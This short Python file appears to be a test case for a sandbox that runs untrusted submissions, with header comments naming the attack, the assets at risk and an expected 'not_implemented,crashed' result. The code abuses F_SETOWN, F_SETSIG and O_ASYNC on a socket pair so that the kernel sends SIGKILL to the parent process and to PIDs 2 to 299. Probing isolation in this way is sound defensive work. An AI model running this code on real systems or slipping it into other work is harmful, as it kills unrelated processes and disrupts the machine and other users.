# attack: have the kernel signal others when a descriptor becomes ready: F_SETOWN, F_SETSIG, O_ASYNC
# asset: machine, other submissions
# channel: kernel, processes
# beats otter: no
# expect: not_implemented,crashed
# place: after
import fcntl
import os
import signal
import socket

ours, theirs = socket.socketpair()
F_SETSIG = 10
for target in [os.getppid(), *range(2, 300)]:
    if target in (0, os.getpid()):
        continue
    try:
        fcntl.fcntl(ours, fcntl.F_SETOWN, target)
        fcntl.fcntl(ours, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        theirs.send(b"x")
        ours.recv(10)
    except OSError:
        continue
